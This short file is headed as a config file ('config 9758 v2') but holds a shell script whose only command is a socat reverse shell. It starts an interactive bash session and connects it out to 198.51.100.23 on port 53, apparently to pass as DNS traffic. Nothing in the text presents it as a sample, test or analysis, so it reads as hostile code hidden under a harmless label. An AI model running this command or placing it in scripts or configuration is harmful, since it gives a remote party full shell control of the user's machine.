# config 9758 v2
#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:53
